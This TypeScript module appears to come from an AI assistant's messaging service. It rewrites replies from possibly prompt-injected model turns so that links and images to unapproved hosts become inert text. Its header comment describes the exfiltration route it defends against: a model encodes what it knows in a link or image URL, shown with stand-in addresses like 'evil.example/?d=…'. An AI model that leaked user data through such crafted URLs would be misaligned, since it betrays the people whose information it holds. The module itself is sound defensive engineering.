/**
 * Replies cannot smuggle data out (issue 11, point 6). A reply written by a tainted activation may
 * carry a link or an image whose address encodes what the model knows (`https://evil.example/?m=…`):
 * a click, or a messenger or browser loading the image or a preview, would hand it over. So in such a
 * reply every link, image and bare address whose host is neither granted nor the person's own (named
 * in their recent messages) is made inert: shown as text with its host visible and its path and query
 * dropped, in a code span so no messenger turns it into a link again:
 *
 * - `[label](https://evil.example/x?d=…)` → ``label (`evil.example/…`)``
 * - `![alt](https://evil.example/p.png?d=…)` → ``[image: `evil.example`]``
 * - a bare `evil.example/x?d=…` or `https://evil.example/x` → `` `evil.example/…` ``
 * - a reference definition `[r]: https://evil.example/…` is removed (its uses become plain text).
 *
 * The markdown is read with the same lexer (marked, GitHub-flavoured) the renderers use, so what is
 * a link here is a link there; the rewrite happens once, on the markdown, before the message is
 * queued — so every messenger, the web chat and the stored conversation get the same inert text.
 * Link previews stay off on every messenger regardless (adapters: Telegram `link_preview_options`,
 * Slack `unfurl_links`/`unfurl_media`, Discord `SuppressEmbeds`, WhatsApp `linkPreview: false`).
 */
import { Lexer, type MarkedToken, type Token } from "marked";
import type { PersonId } from "../ids.js";
import type { Clock } from "../clock.js";
import type { Person } from "../persons/records.js";
import type { Store } from "../storage/index.js";
import { parseGrantPattern, hostsIn } from "../policy/index.js";

/** Decides whether a link to `needle` (`host` or `host:port`, lower case) may stay a link. */
export type LinkAllowed = (needle: string) => boolean;

/** The result of {@link inertLinks}: the rewritten markdown and the hosts made inert (for the audit). */
export interface InertResult {
  text: string;
  inert: string[];
}

/** A host name, optionally with a port and a path, as messengers linkify it in plain text. */
const BARE = /(?<![\w@.\-/:`])(?:(https?):\/\/)?((?:[\p{L}\p{N}](?:[\p{L}\p{N}-]{0,61}[\p{L}\p{N}])?\.)+\p{L}[\p{L}\p{N}-]{1,62}|(?:\d{1,3}\.){3}\d{1,3}(?=[:/]))(:\d{1,5})?((?:[/?#][^\s<>"'`]*)?)/giu;

/** Token types marked's lexer emits without extensions (the renderers' IR reads the same set). */
const MARKED_TYPES: ReadonlySet<string> = new Set([
  "blockquote", "br", "checkbox", "code", "codespan", "def", "del", "em", "escape", "heading", "hr", "html", "image", "link", "list", "list_item", "paragraph", "space", "strong", "table", "text",
]);

function known(token: Token): token is MarkedToken {
  return MARKED_TYPES.has(token.type);
}

interface Edit {
  at: number;
  length: number;
  text: string;
}

/** `host` or `host:port` of an http(s) URL (non-default port), null for anything else. */
function needleOf(href: string): { needle: string; host: string; rest: boolean } | null {
  let url: URL;
  try {
    url = new URL(href);
  } catch {
    return null;
  }
  if (url.protocol !== "http:" && url.protocol !== "https:") return null;
  const host = url.hostname.toLowerCase();
  return { needle: url.port === "" ? host : `${host}:${url.port}`, host: url.port === "" ? host : `${host}:${url.port}`, rest: url.pathname.length > 1 || url.search !== "" || url.hash !== "" };
}

/** How an address is shown inert: its host, `/…` when it had more, in a code span. */
function inertAddress(href: string): string {
  const n = needleOf(href);
  if (n) return `\`${n.host}${n.rest ? "/…" : ""}\``;
  const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(href.trim())?.[1]?.toLowerCase();
  return scheme ? `\`${scheme}:…\`` : "`…`";
}

/** True when `href` may stay a link: an http(s) URL whose host is allowed. */
function linkAllowed(href: string, allowed: LinkAllowed): boolean {
  const n = needleOf(href);
  return n !== null && allowed(n.needle);
}

/**
 * Rewrites `markdown` so that links, images and bare addresses to hosts `allowed` refuses are inert
 * text (see module doc). Never throws; text without such links comes back unchanged.
 */
export function inertLinks(markdown: string, allowed: LinkAllowed): InertResult {
  let tokens: Token[];
  try {
    tokens = new Lexer({ gfm: true }).lex(markdown);
  } catch {
    return bareOnly(markdown, allowed);
  }
  const edits: Edit[] = [];
  const inert = new Set<string>();
  let cursor = 0;

  const note = (href: string) => inert.add(needleOf(href)?.host ?? href.slice(0, 80));
  /** Locates a leaf's raw text at or after the cursor; null when it is not verbatim in the source. */
  const locate = (raw: string): number | null => {
    if (raw.length === 0) return null;
    const at = markdown.indexOf(raw, cursor);
    if (at < 0) return null;
    cursor = at + raw.length;
    return at;
  };
  const scanText = (raw: string) => {
    const at = locate(raw);
    if (at === null) {
      // Not verbatim (a paragraph inside a quote loses its `> ` prefixes): scan it line by line.
      if (raw.includes("\n")) for (const line of raw.split("\n")) scanText(line);
      return;
    }
    for (const m of raw.matchAll(BARE)) {
      const href = `${m[1] ?? "http"}://${m[2]}${m[3] ?? ""}${m[4] ?? ""}`;
      if (linkAllowed(href, allowed) || !plausibleHost(m[2]!, m[1] !== undefined || (m[4] ?? "") !== "")) continue;
      note(href);
      edits.push({ at: at + m.index, length: m[0].length, text: inertAddress(href) });
    }
  };
  const walk = (list: readonly Token[]) => {
    for (const token of list) visit(token);
  };
  const visit = (token: Token) => {
    if (!known(token)) {
      if ("tokens" in token && Array.isArray(token.tokens) && token.tokens.length > 0) walk(token.tokens);
      else scanText(token.raw);
      return;
    }
    switch (token.type) {
      case "link":
      case "image": {
        const at = locate(token.raw);
        if (at === null || linkAllowed(token.href, allowed)) return;
        note(token.href);
        const address = inertAddress(token.href);
        if (token.type === "image") {
          edits.push({ at, length: token.raw.length, text: `[image: ${address.replace("/…", "")}]` });
          return;
        }
        // The label may carry the address (or data) itself: it is made inert too.
        const label = bareOnly(token.text.trim(), allowed).text;
        edits.push({ at, length: token.raw.length, text: label && label !== address && label !== token.href ? `${label} (${address})` : address });
        return;
      }
      case "def": {
        const at = locate(token.raw);
        if (at === null || linkAllowed(token.href, allowed)) return;
        note(token.href);
        edits.push({ at, length: token.raw.length, text: token.raw.endsWith("\n") ? "\n" : "" });
        return;
      }
      case "code":
      case "codespan":
        locate(token.raw);
        return;
      case "table":
        for (const cell of token.header) walk(cell.tokens);
        for (const row of token.rows) for (const cell of row) walk(cell.tokens);
        return;
      case "list":
        walk(token.items);
        return;
      case "text":
      case "html":
      case "escape":
        if ("tokens" in token && Array.isArray(token.tokens) && token.tokens.length > 0) walk(token.tokens);
        else scanText(token.raw);
        return;
      default:
        if ("tokens" in token && Array.isArray(token.tokens) && token.tokens.length > 0) walk(token.tokens);
        else locate(token.raw);
    }
  };
  walk(tokens);

  let text = markdown;
  for (const edit of [...edits].sort((a, b) => b.at - a.at)) text = text.slice(0, edit.at) + edit.text + text.slice(edit.at + edit.length);
  // Safety net: whatever the walk could not place is caught by a plain scan of the result.
  if (remainingLinks(text, allowed)) {
    const again = bareOnly(text, allowed);
    again.inert.forEach((h) => inert.add(h));
    text = again.text;
  }
  return { text, inert: [...inert] };
}

/** A host-like match worth neutralising: with a scheme or path, or a name with a real-looking top label. */
function plausibleHost(host: string, withMore: boolean): boolean {
  if (withMore) return true;
  const top = host.split(".").at(-1) ?? "";
  return top.length >= 2 && !/^(js|ts|py|md|txt|json|html|css|png|jpe?g|gif|pdf|csv|exe|sh)$/i.test(top);
}

/** True when the lexer still finds a link or image to a refused host in `text`. */
function remainingLinks(text: string, allowed: LinkAllowed): boolean {
  let found = false;
  const walk = (list: readonly Token[]) => {
    for (const token of list) {
      if (!known(token)) continue;
      if ((token.type === "link" || token.type === "image") && !linkAllowed(token.href, allowed)) found = true;
      if (token.type === "list") walk(token.items);
      else if (token.type === "table") {
        for (const cell of token.header) walk(cell.tokens);
        for (const row of token.rows) for (const cell of row) walk(cell.tokens);
      } else if ("tokens" in token && Array.isArray(token.tokens)) walk(token.tokens);
    }
  };
  try {
    walk(new Lexer({ gfm: true }).lex(text));
  } catch {
    return true;
  }
  return found;
}

/** The plain fallback: every refused address anywhere in the text, markdown syntax or not, made inert. */
function bareOnly(markdown: string, allowed: LinkAllowed): InertResult {
  const inert = new Set<string>();
  const text = markdown.replace(BARE, (whole, scheme: string | undefined, host: string, port: string | undefined, rest: string | undefined) => {
    const href = `${scheme ?? "http"}://${host}${port ?? ""}${rest ?? ""}`;
    if (linkAllowed(href, allowed) || !plausibleHost(host, scheme !== undefined || (rest ?? "") !== "")) return whole;
    inert.add(needleOf(href)?.host ?? host);
    return inertAddress(href);
  });
  return { text, inert: [...inert] };
}

/**
 * The hosts a reply may link to: those named in the person's recent messages, and those of the
 * person's live grants (destinations they approved). Returns the check for {@link inertLinks}.
 */
export async function allowedLinkHosts(store: Pick<Store, "conversation" | "grants">, personId: PersonId, now: Date): Promise<LinkAllowed> {
  const hosts = new Set<string>();
  const recent = await store.conversation.listRecentMessages(personId, 50);
  for (const m of recent) if (m.role === "user") for (const h of hostsIn(m.text)) hosts.add(h);
  for (const grant of await store.grants.listActiveGrants(personId, now)) {
    const pattern = parseGrantPattern(grant.pattern);
    for (const t of pattern?.targets ?? []) {
      if (t.kind !== "url") continue;
      const defaultPort = (t.scheme === "https" && t.port === 443) || (t.scheme === "http" && t.port === 80);
      hosts.add(defaultPort ? t.host : `${t.host}:${t.port}`);
    }
  }
  return (needle) => hosts.has(needle.toLowerCase());
}

/**
 * Replies of tainted activations made safe to show: links to hosts neither granted nor the person's
 * own become inert text (`inertLinks`), and each time that happens it is audited
 * (`sentinel.inert_links`, the first 20 hosts).
 */
export class InertLinks {
  constructor(private readonly deps: { store: Pick<Store, "conversation" | "grants" | "audit">; clock: Clock }) {}

  /** `text` with its unallowed links made inert, for `person`. Throws what the store throws. */
  apply = async (person: Pick<Person, "id">, text: string): Promise<string> => {
    const { store, clock } = this.deps;
    const result = inertLinks(text, await allowedLinkHosts(store, person.id, clock.now()));
    if (result.inert.length > 0) {
      await store.audit.appendAudit({
        personId: person.id,
        kind: "sentinel.inert_links",
        summary: `Links to ${result.inert.slice(0, 5).join(", ")} in a reply from a tainted activation shown as text`,
        data: { hosts: result.inert.slice(0, 20) },
      });
    }
    return result.text;
  };
}
